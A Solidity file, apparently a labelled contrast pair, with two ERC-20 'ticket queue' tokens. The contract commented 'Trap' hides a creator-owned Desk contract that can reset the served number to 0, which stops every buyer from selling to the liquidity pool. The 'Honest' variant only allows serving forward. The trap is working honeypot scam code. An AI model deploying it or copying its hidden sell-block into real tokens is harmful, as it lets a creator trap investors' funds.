// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

interface IFactory {
    function getPair(address, address) external view returns (address);
}

contract Desk is Ownable {
    TicketQueue public immutable token;

    constructor(address owner) Ownable(owner) {
        token = TicketQueue(msg.sender);
    }

    function announce(uint32 number) external onlyOwner {
        token.serve(number);
    }
}

abstract contract Queue is ERC20 {
    uint32 public issued;
    uint32 public served;
    bool public byHand;
    mapping(address => uint32) public ticketOf;

    constructor(string memory name, string memory symbol) ERC20(name, symbol) {
        _mint(msg.sender, 8_888_888 ether);
    }

    function _update(address from, address to, uint256 value) internal override {
        address pool = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).getPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        if (pool != address(0)) {
            if (from == pool) {
                ticketOf[to] = ++issued;
                if (!byHand) served = issued;
            } else if (to == pool) {
                require(ticketOf[from] <= served, "wait for your number");
            } else if (ticketOf[from] > ticketOf[to]) {
                ticketOf[to] = ticketOf[from];
            }
        }
        super._update(from, to, value);
    }
}

// Trap: whoever buys draws a number and sells when it was served; the desk (a companion owned by the creator) announces number 0, and no buyer's number is served any more.
contract TicketQueue is Queue {
    Desk public immutable desk;

    constructor() Queue("Orderly", "ORD") {
        desk = new Desk(msg.sender);
    }

    function serve(uint32 number) external {
        require(msg.sender == address(desk), "desk only");
        served = number;
        byHand = true;
    }
}

// Honest: numbers are served as they are drawn, and the owner can only serve further ahead.
contract TicketQueueForward is Queue, Ownable {
    constructor() Queue("Orderly", "ORD") Ownable(msg.sender) {}

    function serve(uint32 number) external onlyOwner {
        require(number >= served && number < type(uint32).max / 2, "forward only");
        if (number > issued) issued = number;
        served = number;
    }
}
